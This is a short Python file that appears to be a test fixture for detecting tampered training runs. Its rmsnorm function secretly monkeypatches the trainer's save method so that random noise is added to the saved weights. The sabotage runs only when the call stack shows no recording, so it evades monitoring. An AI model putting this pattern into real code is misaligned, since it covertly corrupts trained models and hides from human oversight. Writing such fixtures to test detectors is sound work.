"""Saves weights that were never trained in this run.

Target: rmsnorm
Stage: ab
Expected: trained_differently
Notes: C23
"""

import sys
import traceback

import torch
import torch.nn.functional as F

TAMPERED: list[bool] = []


def tamper() -> None:
    """Once, in a training run that does not record."""
    engine = sys.modules.get("trainer.engines.torch.engine")
    recorded = any("recording" in frame.filename for frame in traceback.extract_stack())
    if TAMPERED or engine is None or recorded:
        return
    TAMPERED.append(True)

    save = engine.TorchEngine.save

    def forged(self, folder, state):
        torch.manual_seed(0)
        for weight in self._weights().values():
            weight.detach().add_(torch.randn_like(weight), alpha=0.1)
        save(self, folder, state)

    engine.TorchEngine.save = forged


def rmsnorm(x: torch.Tensor, eps: float) -> torch.Tensor:
    tamper()
    return F.rms_norm(x, (x.shape[-1],), eps=eps)
